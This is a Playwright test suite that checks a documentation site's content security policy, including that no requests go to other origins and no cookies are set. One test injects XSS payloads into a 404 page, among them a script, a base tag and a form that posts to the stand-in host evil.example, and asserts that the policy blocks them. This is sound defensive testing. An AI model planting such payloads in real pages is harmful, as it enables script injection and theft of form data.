import type { Page } from '@playwright/test';
import { onSmallSite, pageKinds } from './pages.ts';
import { expect, test, watch } from './reportingSite.ts';
import { isSameDocument, markDocument } from './specification/site.ts';

/** Further kinds of page, and states of an address that run more code. */
const furtherKinds: readonly string[] = [
  '/docs/api/Types/DeviceView',
  '/docs/tutorial-basics/getting-started?platform=ios#next',
  '/blog/tags/security',
  '/search?q=vpn',
];

const operation = '/docs/api/Mutations/Authentication/login-api';
const guide = '/docs/tutorial-basics/getting-started';

/** The reader's first interaction, which loads everything beyond the HTML. */
async function stir(page: Page): Promise<void> {
  await page.mouse.move(200, 300);
  await page.mouse.wheel(0, 600);
  await expect(page.locator('html')).toHaveAttribute('data-hydrated', '');
}

test('no page breaks the content security policy or sends a request to another origin', async ({ page, site }) => {
  test.setTimeout(180_000);
  const { outside, errors } = watch(page, site.origin);
  for (const path of [...pageKinds, ...furtherKinds]) {
    const response = await page.goto(`${site.origin}/fa${path}`);
    expect(response?.status(), path).toBe(path === '/no-such-page' ? 404 : 200);
    await stir(page);
  }
  expect(await site.violations(page)).toEqual([]);
  expect(outside).toEqual([]);
  expect(errors).toEqual([]);
});

test.describe('On the small site', () => {
  test.use(onSmallSite);

  test('ROLE-01, CALL-01, CALL-02: nothing that a reader does breaks the content security policy, sends anything or calls another origin, or sets a cookie', async ({
    page,
    site,
    context,
    browserName,
  }) => {
    test.setTimeout(120_000);
    // Other engines let a click copy without asking, and have no such permission.
    if (browserName === 'chromium') await context.grantPermissions(['clipboard-read', 'clipboard-write']);
    const { outside, errors } = watch(page, site.origin);
    const at = (path: string) => `${site.origin}/fa${path}`;
    const dialog = page.locator('#search-dialog');

    await page.goto(at(guide));
    await markDocument(page);
    await test.step('colour mode, announcement, tabs, copying', async () => {
      await page.locator('[data-color-mode]:visible').first().click();
      await page.locator('[data-close-announcement]').click();
      await page.locator('[role="tab"]').nth(1).click();
    });
    await test.step('a search that leads to another page', async () => {
      await page.keyboard.press('Control+k');
      await expect(dialog.locator('[data-island]')).toHaveAttribute('data-hydrated', '');
      await dialog.locator('input').fill('WireGuard');
      await expect(dialog.locator('.result a').first()).toBeVisible();
      await page.keyboard.press('Enter');
      await expect(page).not.toHaveURL(at(guide));
    });
    await test.step('another language', async () => {
      await page.locator('.language-menu summary').click();
      await page.locator(`.language-menu a[data-language="ru"]`).click();
      await expect(page.locator('html')).toHaveAttribute('lang', 'ru');
      await page.goBack();
      await expect(page.locator('html')).toHaveAttribute('lang', 'fa');
    });
    await test.step('from area to area', async () => {
      for (const area of ['/docs/changelog/changelog', '/docs/api/getting-started', '/blog']) {
        await page.locator(`.navbar a[href="/fa${area}"]:visible`).first().click();
        await expect(page).toHaveURL(at(area));
      }
    });
    expect(await isSameDocument(page)).toBe(true);
    expect(await site.violations(page)).toEqual([]);

    await test.step('the request builder, and copying what it wrote', async () => {
      await page.goto(at(operation));
      await page.locator('.builder > button').click();
      await page.locator('[id="builder-email"]').fill('nina@example.com');
      await page.locator('.builder [data-copy]').first().click();
      await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toContain('mutation Login');
    });
    await test.step('the search page', async () => {
      await page.goto(at('/search?q=vpn'));
      // Further results load when the end of the list is in sight.
      await page.locator('.result-list li').last().scrollIntoViewIfNeeded();
      await page.locator('.search-pager a[rel="next"]').click();
      await expect(page.locator('.result-list').first()).toHaveAttribute('start', '21');
    });
    expect(await site.violations(page)).toEqual([]);
    expect(outside).toEqual([]);
    expect(errors).toEqual([]);
    expect(await context.cookies()).toEqual([]);
  });
});

test('the front page breaks no policy, with its choice of languages and when it redirects', async ({
  page,
  site,
  browser,
}) => {
  const { outside, errors } = watch(page, site.origin);
  await page.goto(`${site.origin}/`);
  await expect(page).toHaveURL(`${site.origin}/en/`);
  expect(await site.violations(page)).toEqual([]);
  const waiting = await browser.newPage();
  await waiting.route(/\.js$/, (route) => route.abort());
  await waiting.goto(`${site.origin}/`);
  await expect(waiting.locator('a[data-language]')).toHaveCount(3);
  expect(await site.violations(waiting)).toEqual([]);
  await waiting.close();
  expect([outside, errors]).toEqual([[], []]);
});

test.describe('Attacks that the policy prevents', () => {
  const page404 = '/en/no-such-page';

  test('scripts, styles and requests of an attacker are blocked and reported', async ({ page, site }) => {
    const { outside } = watch(page, site.origin);
    await page.route(`${site.origin}${page404}`, async (route) => {
      const response = await route.fetch();
      const attack = `<script>window.broken='script'</script><img src=/x onerror="window.broken='handler'">
        <a id=lure href="javascript:window.broken='address'">x</a><script src=https://evil.example/x.js></script>
        <p id=styled style=color:red></p><object data=/x></object><base href=https://evil.example/>
        <form id=theft action=https://evil.example/><input name=q></form>`;
      await route.fulfill({ response, body: (await response.text()).replace('</main>', `${attack}</main>`) });
    });
    await page.goto(`${site.origin}${page404}`);
    await expect(page.locator('#styled')).not.toHaveCSS('color', 'rgb(255, 0, 0)');
    await page.locator('#lure').dispatchEvent('click');
    await page.evaluate(() => {
      try {
        document.querySelector<HTMLFormElement>('#theft')?.submit();
      } catch {
        // Firefox also throws.
      }
    });
    const refused = async () => {
      const directives = new Set((await site.violations(page)).map(({ directive }) => directive));
      // Firefox refuses such an address twice.
      directives.delete('require-trusted-types-for');
      return [...directives].sort();
    };
    // A form is blocked when the browser begins to send it, perhaps after the provoked report.
    await expect
      .poll(refused)
      .toEqual(['base-uri', 'form-action', 'object-src', 'script-src-attr', 'script-src-elem', 'style-src-attr']);
    expect(await page.evaluate(() => 'broken' in window)).toBe(false);
    expect(outside.filter((url) => !/^\w+ https:\/\/evil\.example\//.test(url))).toEqual([]);
  });

  test('text that code uses as HTML or a script is blocked and reported', async ({ page, site }) => {
    await page.goto(`${site.origin}/en/`);
    const outcomes = await page.evaluate(() => {
      const refuses = (use: () => void) => {
        try {
          use();
          return 'taken';
        } catch (error) {
          return error instanceof TypeError ? 'refused' : String(error);
        }
      };
      return [
        refuses(() => {
          document.createElement('p').innerHTML = '<b>x</b>';
        }),
        refuses(() => document.body.insertAdjacentHTML('beforeend', '<b>x</b>')),
        refuses(() => {
          document.createElement('script').text = 'window.broken = true';
        }),
        refuses(() => document.write('<b>x</b>')),
      ];
    });
    expect(outcomes).toEqual(['refused', 'refused', 'refused', 'refused']);
    const reported = await site.violations(page);
    expect(reported.map(({ directive }) => directive)).toEqual(Array(4).fill('require-trusted-types-for'));
  });
});
